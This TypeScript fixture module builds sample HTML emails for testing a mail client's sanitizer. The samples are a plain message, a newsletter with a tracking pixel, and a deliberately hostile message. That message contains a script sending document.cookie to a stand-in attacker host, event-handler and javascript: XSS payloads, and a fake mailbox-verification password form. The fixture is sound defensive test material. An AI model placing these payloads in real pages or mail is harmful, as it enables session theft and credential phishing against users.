// HTML bodies: ordinary formatted mail, a newsletter with remote images, and one deliberately hostile
// message (script, event handlers, javascript: links) so the UI can prove its sanitizer works.

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c] as string);
}

/** Plain paragraphs, quoted lines in a blockquote, like a mail client would produce. */
export function textToHtml(text: string): string {
  const blocks = text.split(/\n{2,}/).map((block) => {
    if (block.startsWith('>')) return `<blockquote>${escapeHtml(block.replace(/^> ?/gm, '')).replace(/\n/g, '<br>')}</blockquote>`;
    return `<p>${escapeHtml(block).replace(/\n/g, '<br>')}</p>`;
  });
  return `<html><body style="font-family: Arial, sans-serif">${blocks.join('\n')}</body></html>`;
}

export function newsletterHtml(title: string, lines: string[], id: string): string {
  const items = lines.map((l) => `<tr><td style="padding:8px">${escapeHtml(l)}</td></tr>`).join('');
  return `<html><body>
<table width="600" align="center">
<tr><td><img src="https://news.example.org/banner.png?u=${id}" width="600" height="120" alt="${escapeHtml(title)}"></td></tr>
${items}
<tr><td><img src="https://tracking.example.org/open.gif?m=${id}" width="1" height="1" alt=""></td></tr>
<tr><td><a href="https://news.example.org/unsubscribe?u=${id}">Unsubscribe</a></td></tr>
</table></body></html>`;
}

export function hostileHtml(): string {
  return `<html><head><script>fetch('https://evil.example.net/steal?c=' + document.cookie)</script></head>
<body onload="alert('onload')">
<p>Your mailbox is almost full. Please verify your account to avoid losing mail.</p>
<img src="x" onerror="alert('onerror')">
<p><a href="javascript:alert('javascript link')">Verify my account</a></p>
<iframe src="https://evil.example.net/frame"></iframe>
<form action="https://evil.example.net/login" method="post"><input name="password" type="password"></form>
<p style="background:url('https://evil.example.net/pixel.png')">IT Service Desk</p>
</body></html>`;
}
